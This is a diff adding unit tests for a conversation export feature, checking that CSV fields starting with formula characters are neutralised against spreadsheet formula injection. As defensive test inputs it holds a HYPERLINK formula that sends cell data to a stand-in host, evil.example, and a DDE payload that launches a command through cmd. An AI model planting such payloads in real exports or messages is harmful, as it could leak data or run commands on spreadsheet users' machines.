@@ -68,6 +68,26 @@ describe('conversation export', () => {
     expect(csvField(null)).toBe('');
   });
 
+  it('neutralises fields a spreadsheet would run as formulas (OWASP): a leading quote, the field quoted', () => {
+    expect(csvField('=HYPERLINK("https://evil.example/?d="&A1,"click")')).toBe(
+      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`,
+    );
+    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvField(`${start}1+1`)).toBe(`"'${start}1+1"`);
+    expect(csvField('1 = 1')).toBe('1 = 1');
+  });
+
+  it('neutralises a visitor message and an agent name that start a formula in the CSV export', async () => {
+    const agent = message('m2', 'human_agent', 'Hello');
+    const agentMessage = { ...agent, metadata: { ...(agent.metadata as object), humanAgent: { name: '@SUM(1+1)*cmd|" /C calc"!A0', image: null } } } as Message;
+    const s: ConversationSource = {
+      page: async (_f, offset) => ({ data: offset === 0 ? [conversation('c1', [])] : [], total: 1 }),
+      get: async () => conversation('c1', [message('m1', 'user', '=HYPERLINK("https://evil.example/?d="&A1,"click")'), agentMessage]),
+    };
+    const rows = (await collect(exportConversations(s, {}, 'csv'))).split('\r\n');
+    expect(rows[1]).toBe(`c1,open,v,2026-01-01T00:00:00.000Z,m1,2026-01-01T00:00:00.000Z,user,"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",,`);
+    expect(rows[2]).toBe(`c1,open,v,2026-01-01T00:00:00.000Z,m2,2026-01-01T00:00:00.000Z,human_agent,Hello,,"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
+  });
+
   it('pages through every conversation: one NDJSON line each', async () => {
     const s = source(205);
     const lines = (await collect(exportConversations(s, {}, 'ndjson'))).trim().split('\n');
